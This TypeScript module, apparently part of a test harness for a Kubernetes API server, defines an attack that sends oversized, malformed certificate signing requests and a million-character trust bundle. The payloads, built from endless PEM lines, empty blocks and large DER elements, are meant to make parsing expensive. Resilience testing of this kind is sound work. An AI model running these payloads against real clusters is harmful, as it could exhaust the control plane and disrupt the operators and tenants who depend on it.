import type { Attack } from '../attack.ts';
import { type HttpAnswer, LARGE_BODY_BYTES } from '../client.ts';

const REQUESTS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const BUNDLES = '/apis/certificates.k8s.io/v1beta1/clustertrustbundles';
const MAX_BUNDLE_LENGTH = 1_000_000;

/** An element of DER. */
function element(tag: number, content: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  return Buffer.concat([Buffer.from([tag, 0x84]), length, content]);
}

const pem = (type: string, bytes: Buffer) =>
  `-----BEGIN ${type}-----\n${bytes.toString('base64')}\n-----END ${type}-----\n`;
const filled = (part: string, length: number) => part.repeat(Math.floor(length / part.length));

/** Certificate requests and trust bundles that are expensive to read: endless lines, empty blocks, very many elements. */
export const largeCertificates: Attack = {
  name: 'large certificate requests',
  async run({ admin, tenant }) {
    const length = Math.floor((LARGE_BODY_BYTES * 3) / 4) - 1_000;
    const elements = element(0x30, element(0x30, Buffer.alloc(Math.floor(length / 2))));
    const requests = [
      filled('-----BEGIN -----END ', length),
      filled('-----BEGIN CERTIFICATE REQUEST-----\n-----END CERTIFICATE REQUEST\n', length),
      pem('CERTIFICATE REQUEST', elements),
    ];
    const sent: Promise<HttpAnswer>[] = [];
    for (const [index, text] of requests.entries()) {
      const spec = {
        signerName: 'example.com/x',
        usages: ['client auth'],
        request: Buffer.from(text).toString('base64'),
      };
      for (const client of [admin, tenant]) {
        sent.push(client.send('POST', REQUESTS, { body: { metadata: { name: `large-${index}` }, spec } }));
      }
    }
    const trustBundle = filled('-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n', MAX_BUNDLE_LENGTH);
    sent.push(admin.send('POST', BUNDLES, { body: { metadata: { name: 'large' }, spec: { trustBundle } } }));
    await Promise.all(sent);
  },
};
